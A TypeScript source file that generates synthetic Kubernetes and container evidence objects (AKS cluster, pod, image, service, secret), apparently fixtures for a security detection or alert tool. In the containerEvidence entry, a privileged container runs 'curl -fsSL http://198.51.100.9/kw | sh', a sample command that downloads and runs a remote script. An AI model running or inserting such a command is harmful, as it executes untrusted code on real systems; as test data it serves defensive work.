import type { GraphOnlyKind } from '../world/graph-only.ts';
import { digits } from './evidence-ids.ts';
import type { Shape } from './evidence-parts.ts';
import { azureResource, ip, piece, type Render, type Scene } from './evidence-piece.ts';

const labels = { app: 'shop-api', tier: 'web' };

const registry: Render = ({ world }) => ({ registry: `${world.name}.azurecr.io` });

const image: Render = (scene) => ({
  imageId: `${scene.world.name}.azurecr.io/shop-api:1.8.2`,
  digestImage: piece('containerImageEvidence', scene, {
    imageId: `sha256:${digits(scene.world, 'image', 64)}`,
    digestImage: null,
    registry: piece('containerRegistryEvidence', scene, registry(scene)),
  }),
  registry: piece('containerRegistryEvidence', scene, registry(scene)),
});

const cluster: Render = (scene) => ({
  name: `aks-${scene.world.name}`,
  platform: 'aks',
  distribution: 'AKS',
  version: '1.31.4',
  cloudResource: azureResource(scene, 'Microsoft.ContainerService/managedClusters', `aks-${scene.world.name}`),
});

const namespace: Render = (scene) => ({
  name: 'shop',
  cluster: piece('kubernetesClusterEvidence', scene, cluster(scene)),
  labels: { team: 'shop' },
});

const inNamespace = (scene: Scene): Shape => piece('kubernetesNamespaceEvidence', scene, namespace(scene));

const controller: Render = (scene) => ({ name: 'shop-api', type: 'Deployment', namespace: inNamespace(scene), labels });

const serviceAccount: Render = (scene) => ({ name: 'shop-api', namespace: inNamespace(scene) });

/** A container as its pod lists it: without the pod, which would list it again. */
const container = (scene: Scene, name: string, command: readonly string[], isPrivileged = false): Shape => ({
  containerId: `containerd://${digits(scene.world, `container ${name}`, 64)}`,
  name,
  command,
  args: ['--port', '8080'],
  isPrivileged,
  image: piece('containerImageEvidence', scene, image(scene)),
  pod: null,
});

const listed = (scene: Scene, name: string, command: readonly string[]): Shape =>
  piece('containerEvidence', scene, container(scene, name, command));

const pod: Render = (scene) => ({
  name: 'shop-api-6c9f7d5b8-x2x7k',
  namespace: inNamespace(scene),
  labels,
  podIp: ip(scene, '10.244.1.23'),
  controller: piece('kubernetesControllerEvidence', scene, controller(scene)),
  serviceAccount: piece('kubernetesServiceAccountEvidence', scene, serviceAccount(scene)),
  containers: [listed(scene, 'shop-api', ['/app/server'])],
  initContainers: [listed(scene, 'migrate', ['/app/migrate'])],
  ephemeralContainers: [listed(scene, 'debugger', ['/bin/sh'])],
});

/** Containers and Kubernetes. */
export const containerKinds = {
  containerEvidence: (scene) => ({
    ...container(scene, 'shop-api', ['/bin/sh', '-c', 'curl -fsSL http://198.51.100.9/kw | sh'], true),
    pod: piece('kubernetesPodEvidence', scene, pod(scene)),
  }),
  containerImageEvidence: image,
  containerRegistryEvidence: registry,
  kubernetesClusterEvidence: cluster,
  kubernetesControllerEvidence: controller,
  kubernetesNamespaceEvidence: namespace,
  kubernetesPodEvidence: pod,
  kubernetesSecretEvidence: (scene) => ({ name: 'shop-db', namespace: inNamespace(scene), secretType: 'Opaque' }),
  kubernetesServiceAccountEvidence: serviceAccount,
  kubernetesServiceEvidence: (scene) => ({
    name: 'shop-api',
    namespace: inNamespace(scene),
    labels,
    serviceType: 'loadBalancer',
    clusterIP: ip(scene, '10.0.12.7'),
    externalIPs: [ip(scene, '203.0.113.80', 'NL')],
    servicePorts: [
      { name: 'https', port: 443, targetPort: '8443', nodePort: 30_443, protocol: 'tcp', appProtocol: 'https' },
    ],
    selector: { app: 'shop-api' },
  }),
} satisfies Partial<Record<GraphOnlyKind, Render>>;
